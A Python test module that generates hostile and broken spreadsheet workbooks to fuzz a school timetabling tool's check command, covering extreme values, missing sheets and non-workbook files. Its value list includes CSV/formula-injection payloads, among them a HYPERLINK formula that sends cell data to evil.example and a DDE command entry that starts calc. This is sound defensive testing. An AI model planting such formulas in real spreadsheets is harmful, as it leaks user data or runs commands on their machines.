"""A corpus of hostile and broken school workbooks, made from the small sample (nothing copied
from elsewhere): every cell kind given values no school has (huge, negative, not a number,
formulas, invisible and control characters, line breaks, emoji), whole sheets missing or empty,
headers moved, and files that are no workbook at all."""

from __future__ import annotations

import copy
import zipfile
from collections.abc import Iterator
from pathlib import Path

from tests.conftest import sheets_of_small_school, write_rows

# Values put into one cell at a time. Control characters are not here: no .xlsx can hold them
# (tests/test_hostile.py gives them through JSON).
VALUES = (
    "",
    " ",
    "inf",
    "-inf",
    "nan",
    "1e400",
    "-1",
    0,
    -5.5,
    10**20,
    "9" * 400,
    "1-999999999",
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\u200b",
    "Mon\n1-2",
    "😀",
    "x" * 5000,
)
# (sheet, row) to spoil: the first data row of each sheet, and a setting
TARGETS = (("Classes", 1), ("Subjects", 1), ("Curriculum", 1), ("Teachers", 1), ("Load", 1))
SETTINGS = ("days", "lesson_minutes", "periods_per_day", "split_threshold", "max_lessons_per_day")


def hostile_workbooks(folder: Path) -> Iterator[tuple[str, Path]]:
    """(what was done, the file) for each input of the corpus, written into folder."""
    base = sheets_of_small_school()
    number = 0

    def save(label: str, sheets: dict) -> tuple[str, Path]:
        nonlocal number
        number += 1
        return label, write_rows(folder / f"hostile-{number:03d}.xlsx", sheets)

    for sheet, row in TARGETS:
        for column, header in enumerate(base[sheet][0]):
            for value in VALUES:
                sheets = copy.deepcopy(base)
                sheets[sheet][row][column] = value
                yield save(f"{sheet} {header} = {str(value)[:30]!r}", sheets)
    settings_rows = {r[0]: i for i, r in enumerate(base["School"])}
    for key in SETTINGS:
        for value in VALUES:
            sheets = copy.deepcopy(base)
            sheets["School"][settings_rows[key]][1] = value
            yield save(f"School {key} = {str(value)[:30]!r}", sheets)
    yield from _structural(base, save)
    yield from _not_workbooks(folder)


def _structural(base: dict, save) -> Iterator[tuple[str, Path]]:
    for sheet in base:
        sheets = copy.deepcopy(base)
        del sheets[sheet]
        yield save(f"no {sheet} sheet", sheets)
        sheets = copy.deepcopy(base)
        sheets[sheet] = [sheets[sheet][0]]
        yield save(f"{sheet} with a header only", sheets)
        sheets = copy.deepcopy(base)
        sheets[sheet] = [[]] * 25 + sheets[sheet]
        yield save(f"{sheet} with its header on row 26", sheets)
        sheets = copy.deepcopy(base)
        sheets[sheet] = sheets[sheet] + sheets[sheet][1:]
        yield save(f"{sheet} with every row twice", sheets)


def _not_workbooks(folder: Path) -> Iterator[tuple[str, Path]]:
    contents = {
        "empty file": b"",
        "text": b"class,grade\n7A,7\n",
        "binary": bytes(range(256)) * 8,
        "zip without a workbook": _zip({"hello.txt": b"hi"}),
        "truncated zip": _zip({"xl/workbook.xml": b"<workbook/>" * 100})[:60],
    }
    for index, (label, data) in enumerate(contents.items()):
        path = folder / f"broken-{index}.xlsx"
        path.write_bytes(data)
        yield label, path


def _zip(files: dict[str, bytes]) -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def check_all(folder: Path) -> dict:
    """Run `keste check` on every input of the corpus in this process: each input's label, exit
    code, whether the file is unchanged and whether the output has error lines; and the
    process's peak memory (run it in a child process to measure that alone)."""
    import hashlib
    import resource

    from typer.testing import CliRunner

    from keste.cli.app import app

    runner = CliRunner()
    results = []
    for label, path in hostile_workbooks(folder):
        before = hashlib.sha256(path.read_bytes()).digest()
        result = runner.invoke(app, ["check", str(path)], catch_exceptions=False)
        results.append(
            {
                "label": label,
                "path": str(path),
                "exit": int(result.exit_code),
                "unchanged": hashlib.sha256(path.read_bytes()).digest() == before,
                "error_lines": "error" in result.output,
                "tail": result.output[-400:],
            }
        )
    peak_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return {"results": results, "peak_mb": peak_kb // 1024}


if __name__ == "__main__":  # python -m tests.hostile_inputs FOLDER: the JSON of check_all
    import json
    import sys

    print(json.dumps(check_all(Path(sys.argv[1]))))
